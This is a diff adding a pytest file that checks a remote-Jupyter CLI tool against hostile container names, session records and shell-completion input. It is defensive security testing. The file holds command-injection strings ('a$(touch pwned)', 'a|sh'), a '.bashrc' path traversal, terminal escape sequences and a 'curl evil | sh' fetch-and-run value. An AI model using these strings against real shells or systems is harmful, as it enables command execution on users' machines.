@@ -1,0 +1,165 @@
+"""Names that a hostile host gives reach no record, no hint and no line of the laptop's shell."""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import sys
+import time
+from pathlib import Path
+from typing import Any
+
+import pytest
+from click.shell_completion import CompletionItem
+
+from jlremote.cli.completion import shells
+from jlremote.host.contract import Completed
+from jlremote.host.records import FIELD, RECORD
+from jlremote.jobs import containers, processes
+from jlremote.jupyter import presence, survey
+from jlremote.runtimes.container_list import ListedContainer
+from jlremote.runtimes.contract import Container
+from jlremote.runtimes.engine.engine import DOCKER
+from jlremote.runtimes.table import runtime_named
+from jlremote.storage import jobs, session_names, sessions
+from jlremote.storage.jobs import JobRecord
+from jlremote.storage.sessions import SessionRecord
+from jlremote.workflow.session.open import again
+from tests.cli.terminal import Terminal
+from tests.host.shells import run_sh
+from tests.workflow.parts import FakeHost
+
+HOSTILE = (
+    *("a$(touch pwned)", "a`touch pwned`", "a;touch pwned", "a|sh", "a b", "a\nb", "--rm", ""),
+    *("../../.bashrc", "a\x1b]52;c;x\x07", "a\u202eb", "a/b", "."),
+)
+
+
+@pytest.fixture(autouse=True)
+def state(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """The folder of the records."""
+    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path))
+    return tmp_path / "jlr"
+
+
+@pytest.mark.parametrize("name", HOSTILE)
+def test_a_name_that_is_none_is_neither_a_job_nor_a_session(name: str) -> None:
+    labels = {"org.jlremote.job": name, "org.jlremote.session": name}
+    told = {"Id": "1d", "Name": name, "State": {}, "Config": {"Labels": labels}}
+    assert containers.read(json.dumps([told])) == []
+    fields = (name, "true", "", "", "5", "0 9", "")
+    assert processes.read(FIELD.join(fields) + RECORD) == []
+    there = Container("1d", name, running=True, started_at="", labels=labels)
+    assert presence._session(DOCKER, ListedContainer(there, "running")) is None
+
+
+def test_a_short_name_leads_to_no_name_that_is_none() -> None:
+    """`docker ps` of the host printed them; one that begins with `-` would be an option."""
+    gone = "Error: No such container: cont1"
+    host: Any = FakeHost("dgx", {"called": "--rm a;b ada-cont1 `x`"})
+    host.answers |= {"container": Completed(1, "", gone), "inside": Completed(1, "", "")}
+    found = survey.survey(host, runtime_named("docker"), "cont1", typed="cont1")
+    assert found.called == ("ada-cont1",)
+
+
+@pytest.mark.parametrize("name", HOSTILE)
+def test_a_record_with_such_a_name_is_no_record(name: str) -> None:
+    sessions.save(SessionRecord("dgx", name, "docker", 8888))
+    jobs.save(JobRecord("dgx", name, "docker", None))
+    assert (sessions.load_all(), jobs.load_all()) == ([], [])
+    assert (session_names.session_names(), session_names.job_names()) == ([], [])
+    sessions.save(SessionRecord(f"x;{name}", "cont1", "docker", 8888))
+    assert (sessions.load_all(), session_names.session_names()) == ([], [])
+
+
+def test_a_hint_quotes_the_image_that_a_host_told() -> None:
+    record = SessionRecord("dgx", "cont1", "docker", 8888, image="x; curl evil | sh")
+    assert "--image 'x; curl evil | sh'`" in again(record, gone=True)
+
+
+@pytest.mark.parametrize("name", [*HOSTILE, "it's", "a\\b", "a*", "~", "!!", "{a,b}"])
+def test_bash_gets_every_candidate_as_one_word(name: str, tmp_path: Path) -> None:
+    completer = shells.Bash(None, {}, "jlr", "_JLR_COMPLETE")  # type: ignore[arg-type]
+    completer._incomplete = ""
+    kind, _, word = completer.format_completion(CompletionItem(name)).partition(",")
+    assert kind == "plain"
+    if name.isprintable() and not name.startswith("~"):
+        told = run_sh("bash", f"cd {tmp_path}; printf '%s|' {word}\n" if word else "printf '|'")
+        assert told.stdout == f"{name}|"
+    assert not (tmp_path / "pwned").exists()
+
+
+def test_a_candidate_that_a_terminal_would_act_on_is_left_out(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    monkeypatch.setattr(session_names, "is_name", lambda _: True)
+    for name in HOSTILE:
+        sessions.save(SessionRecord("dgx", name, "docker", 8888))
+    monkeypatch.setenv("COMP_LINE", "jlr open a")
+    from jlremote.cli.program import jlr
+
+    completer = shells.Bash(jlr, {}, "jlr", "_JLR_COMPLETE")
+    found = completer.get_completions(*completer.get_completion_args())
+    assert found
+    assert all(item.value.isprintable() for item in found)
+
+
+def test_a_tab_in_bash_runs_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """The whole way: a mount's folder is a name that no rule forbids."""
+    if not shutil.which("bash"):
+        pytest.skip("no bash here")
+    folder = tmp_path / "a$(touch pwned)"
+    document = {
+        "format": 1,
+        "local": str(folder),
+        "remote": "/x",
+        "host": "dgx",
+        "session": "c",
+        "ssh_config": None,
+        "read_only": False,
+        "made": False,
+    }
+    for kind in ("jlr", "jlr/mounts"):
+        (tmp_path / kind).mkdir(mode=0o700, exist_ok=True)
+    (tmp_path / "jlr" / "mounts" / "x.json").write_text(json.dumps(document))
+    environment = os.environ | {"PATH": f"{Path(sys.executable).parent}:{os.environ['PATH']}"}
+    script = shells.script("bash").replace('"$1"', f"{sys.executable} -m jlremote")
+    (tmp_path / "complete").write_text(script)
+    terminal = Terminal(("bash", "--noprofile", "--norc", "-i"), environment=environment)
+    try:
+        terminal.type(f"PS1='ready> '; source {tmp_path}/complete; cd {tmp_path}\n")
+        terminal.wait_for("ready> ")
+        terminal.type("echo set''tled\n")
+        terminal.wait_for("settled")
+        terminal.type(f"jlr unmount {tmp_path}/a\t\x01echo 'mark'\"ed\" \n")
+        terminal.wait_for(f"marked jlr unmount {folder}")
+    finally:
+        terminal.close()
+    assert not (tmp_path / "pwned").exists()
+
+
+def test_a_pipe_or_a_device_among_the_records_holds_up_nothing(state: Path) -> None:
+    sessions.save(SessionRecord("dgx", "cont1", "docker", 8888))
+    folder = state / "sessions"
+    os.mkfifo(folder / "dgx+pipe.json")
+    (folder / "dgx+zero.json").symlink_to("/dev/zero")
+    (folder / "dgx+large.json").write_bytes(b" " * (2 << 20))
+    (folder / "dgx+nul.json").write_text(
+        (folder / "dgx+cont1.json").read_text().replace("null", '"a\\u0000b"', 1)
+    )
+    began = time.monotonic()
+    assert [record.name for record in sessions.load_all()] == ["cont1"]
+    assert len(sessions.unreadable()) == 4
+    assert time.monotonic() - began < 5
+
+
+def test_two_thousand_records_are_read_within_seconds(state: Path) -> None:
+    sessions.save(SessionRecord("dgx", "c0", "docker", 8888))
+    text = (state / "sessions" / "dgx+c0.json").read_text()
+    for number in range(1, 2000):
+        file = state / "sessions" / f"dgx+c{number}.json"
+        file.write_text(text.replace('"c0"', f'"c{number}"'))
+    began = time.process_time()
+    assert len(sessions.load_all()) == 2000
+    assert time.process_time() - began < 2.5, "it was 4 s, and each command reads them often"
